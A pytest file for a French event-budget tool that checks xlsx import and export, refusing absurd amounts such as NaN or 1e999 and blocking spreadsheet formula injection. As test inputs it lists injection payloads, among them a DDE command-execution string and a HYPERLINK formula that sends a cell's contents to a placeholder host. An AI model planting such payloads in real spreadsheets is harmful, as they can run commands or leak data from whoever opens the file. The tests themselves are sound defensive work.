"""Hostile budget workbooks: absurd numbers refused before anything is written, user text never a
formula."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
from hostile.xlsx_raw import set_raw_number
from openpyxl import load_workbook

from app.budget import BudgetError, BudgetLine
from app.budget_xlsx import BudgetFileError, export_budgets, read_budgets
from app.cli import main
from app.project_store import open_project, save_project
from app.templates import build_template
from routes.errors import CavalierError


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def project_and_xlsx(tmp_path: Path) -> tuple[Path, Path]:
    project = tmp_path / "raid.cavalier"
    assert main(["new", "--template", "raid-bassin-minier", "--year", "2027", str(project)]) == 0
    xlsx = tmp_path / "raid.xlsx"
    assert main(["budget", "export", str(project), str(xlsx)]) == 0
    return project, xlsx


def _first_line_row(ws: object) -> int:
    return next(r for r in range(1, ws.max_row + 1)  # type: ignore[attr-defined]
                if ws[f"I{r}"].value == "L" and ws[f"B{r}"].value)  # type: ignore[index]


@pytest.mark.parametrize("column", ["E", "F"])
@pytest.mark.parametrize(("value", "raw"), [
    ("1e999", True), ("-1e999", True), ("1e308", True), ("-2e9", True),
    ("NaN", False), ("Infinity", False), ("-inf", False), ("1e308", False), ("-1E400", False)])
def test_absurd_amounts_are_refused_and_nothing_is_written(
        project_and_xlsx: tuple[Path, Path], capsys: pytest.CaptureFixture[str],
        column: str, value: str, raw: bool) -> None:
    project, xlsx = project_and_xlsx
    wb = load_workbook(xlsx)
    ws = wb["Budget"]
    row = _first_line_row(ws)
    if raw:
        set_raw_number(xlsx, "Budget", f"{column}{row}", value)
    else:
        ws[f"{column}{row}"] = value
        wb.save(xlsx)
    before = _digest(project)
    capsys.readouterr()
    assert main(["budget", "import", str(project), str(xlsx)]) == 1
    err = capsys.readouterr().err
    assert f"feuille « Budget », cellule {column}{row}" in err and "raid.xlsx" in err
    assert "Traceback" not in err
    assert _digest(project) == before
    open_project(project)  # still readable


def test_an_unparsable_number_is_a_french_error(project_and_xlsx: tuple[Path, Path],
                                               capsys: pytest.CaptureFixture[str]) -> None:
    project, xlsx = project_and_xlsx
    set_raw_number(xlsx, "Budget", "E8", "NaN")  # openpyxl itself cannot read this sheet
    before = _digest(project)
    capsys.readouterr()
    assert main(["budget", "import", str(project), str(xlsx)]) == 1
    err = capsys.readouterr().err
    assert "raid.xlsx" in err and "illisible" in err
    assert "Unable" not in err and "workbook" not in err and "Traceback" not in err
    assert _digest(project) == before


def test_a_bad_cell_on_a_later_sheet_writes_nothing(tmp_path: Path) -> None:
    project = tmp_path / "vtt.cavalier"
    main(["new", "--template", "challenge-vtt-xc", "--year", "2027", str(project)])
    xlsx = tmp_path / "vtt.xlsx"
    main(["budget", "export", str(project), str(xlsx)])
    wb = load_workbook(xlsx)
    ws = wb.worksheets[-2]
    ws[f"D{_first_line_row(ws)}"] = "1e300"
    wb.save(xlsx)
    before = _digest(project)
    with pytest.raises(BudgetFileError, match=f"feuille « {ws.title} », cellule D"):
        read_budgets(xlsx)
    assert main(["budget", "import", str(project), str(xlsx)]) == 1
    assert _digest(project) == before


def test_budget_error_is_a_cavalier_error(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(CavalierError):
        BudgetLine("99", "Compte inconnu")
    assert issubclass(BudgetError, CavalierError)


@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://x.example/?"&A1,"clic")',
                                     "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)"])
def test_user_text_is_never_a_formula(tmp_path: Path, hostile: str) -> None:
    from dataclasses import replace

    event, budgets = build_template("raid-bassin-minier", 2027)
    budget = budgets[0]
    lines = (replace(budget.lines[0], label=hostile), *budget.lines[1:])
    event = replace(event, name=hostile, organiser=hostile,
                    formats=tuple(replace(f, name=f"{hostile} {i}", venue=hostile)
                                  for i, f in enumerate(event.formats)))
    budget = replace(budget, name=hostile, lines=lines,
                     format_names=tuple(f.name for f in event.formats))
    path = tmp_path / "b.xlsx"
    export_budgets(path, event, (budget, replace(budget, name=hostile + "2")))
    wb = load_workbook(path)
    formulas = [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    assert formulas, "Cavalier's own formulas must stay"
    assert not [f for f in formulas if str(f[2]).startswith(hostile)]  # quoted sheet refs ok
    texts = [c.value for ws in wb for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and hostile in c.value]
    assert len(texts) > 5
    back = read_budgets(path)
    assert back[0].lines[0].label == hostile or any(ln.label == hostile for ln in back[0].lines)
    save_project(tmp_path / "p.cavalier", build_project(event, back))


def build_project(event: object, budgets: object) -> object:
    from app.project_store import Project
    return Project(event, budgets)  # type: ignore[arg-type]


@pytest.mark.parametrize(("text", "safe"), [
    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"), ("+33 6 12", "'+33 6 12"), ("-5", "'-5"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("Ravito 11/19", "Ravito 11/19"), ("", "")])
def test_csv_text_escapes_formula_starts(text: str, safe: str) -> None:
    from app.xlsx_text import csv_text

    assert csv_text(text) == safe
